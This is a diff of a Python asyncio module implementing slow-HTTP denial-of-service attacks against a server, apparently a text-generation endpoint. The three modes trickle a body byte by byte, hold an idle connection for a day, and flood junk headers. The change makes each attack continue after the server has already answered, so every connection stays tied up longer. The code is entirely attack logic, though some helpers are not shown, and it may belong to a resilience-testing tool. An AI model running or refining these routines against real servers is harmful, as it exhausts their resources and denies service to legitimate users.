@@ -45,9 +45,10 @@ class Target:
     max_tokens: int = 64
 
 
-async def attack(kind: Attack, target: Target, number: int) -> Outcome:
-    """Keeps one connection open in the way of ``kind`` until the server closes it, or the caller cancels it."""
-    outcome = Outcome()
+async def attack(kind: Attack, target: Target, number: int, outcome: Outcome | None = None) -> Outcome:
+    """Keeps one connection open in the way of ``kind`` until the server closes it, or the caller cancels it. Returns
+    what became of it, which is written into ``outcome`` as it happens."""
+    outcome = outcome or Outcome()
     began = asyncio.get_running_loop().time()
     try:
         async with _connected(target) as connection:
@@ -97,17 +98,17 @@ async def _read_slowly(connection: Connection, target: Target, number: int, outc
 async def _trickle(connection: Connection, target: Target, number: int, outcome: Outcome) -> None:
     body = _body(number, target.max_tokens, padding="x" * 5000)
     await connection.send(_head(target, len(body)))
-    await _while_answerless(connection, outcome, _slowly(connection, target, (body[i : i + 1] for i in range(5000))))
+    await _despite_answers(connection, outcome, _slowly(connection, target, (body[i : i + 1] for i in range(5000))))
 
 
 async def _send_nothing(connection: Connection, target: Target, number: int, outcome: Outcome) -> None:
-    await _while_answerless(connection, outcome, asyncio.sleep(86_400))
+    await _despite_answers(connection, outcome, asyncio.sleep(86_400))
 
 
 async def _flood(connection: Connection, target: Target, number: int, outcome: Outcome) -> None:
     await connection.send(f"POST {PATH} HTTP/1.1\r\nhost: {target.host}\r\n".encode())
     headers = (f"x-{number}-{place}: {'y' * 100}\r\n".encode() for place in range(86_400))
-    await _while_answerless(connection, outcome, _slowly(connection, target, headers))
+    await _despite_answers(connection, outcome, _slowly(connection, target, headers))
 
 
 _RUNS: dict[Attack, Callable[[Connection, Target, int, Outcome], Awaitable[None]]] = {
@@ -124,17 +125,18 @@ async def _slowly(connection: Connection, target: Target, pieces: Any) -> None:
         await asyncio.sleep(target.interval_s)
 
 
-async def _while_answerless(connection: Connection, outcome: Outcome, work: Awaitable[None]) -> None:
-    """Runs ``work`` until the server answers. Raises ConnectionError when the server then closes the connection."""
+async def _despite_answers(connection: Connection, outcome: Outcome, work: Awaitable[None]) -> None:
+    """Runs ``work``, which goes on after the server has answered, until the server closes the connection. Raises
+    ConnectionError then."""
     working = asyncio.ensure_future(work)
     try:
         outcome.status = _status(await connection.receive(4096))
+        while True:
+            await connection.receive(4096)
     finally:
         working.cancel()
         with contextlib.suppress(asyncio.CancelledError, ConnectionError):
             await working
-    while True:
-        await connection.receive(4096)
 
 
 def _head(target: Target, length: int) -> bytes:
